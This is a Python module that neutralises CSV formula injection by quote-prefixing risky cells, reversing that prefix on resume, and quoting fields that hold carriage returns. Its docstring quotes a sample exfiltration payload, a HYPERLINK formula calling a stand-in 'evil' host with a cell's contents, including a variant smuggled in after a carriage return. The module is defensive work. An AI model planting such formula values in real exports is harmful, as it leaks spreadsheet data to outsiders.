"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, after trimming, one that starts with a tab or a carriage return): a file named
``=HYPERLINK("http://evil/?"&A1,"x").png`` becomes a live link in a predictions CSV. Text
cells that start with one of those, or with the quote itself, get a leading ``'`` (OWASP's
advice; spreadsheets hide it). The rule is reversible, so ``--resume`` reads back the very
name it wrote: ``original_cell`` drops the quote from a cell that starts with ``'`` and then
one of those characters, and from no other cell. Numbers are never touched. ``csv_line``
writes a record ending in ``\n`` whose fields holding ``\r`` are quoted too: Python's writer
(before 3.13) leaves a lone ``\r`` bare when the terminator is ``\n``, and a file name holding
``\r=HYPERLINK(...)`` would start a new row with a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would take for a formula: then ``'`` + text."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def original_cell(text: str) -> str:
    """The value ``safe_cell`` was given, from the text it wrote."""
    if text.startswith("'") and text[1:2] and text[1:2] in FORMULA_START:
        return text[1:]
    return text


def csv_line(row: Iterable[Any]) -> str:
    """One CSV record ending in ``\n``, every field holding ``\r`` or ``\n`` quoted."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(row)  # quotes what holds either character
    return buf.getvalue()[:-2] + "\n"
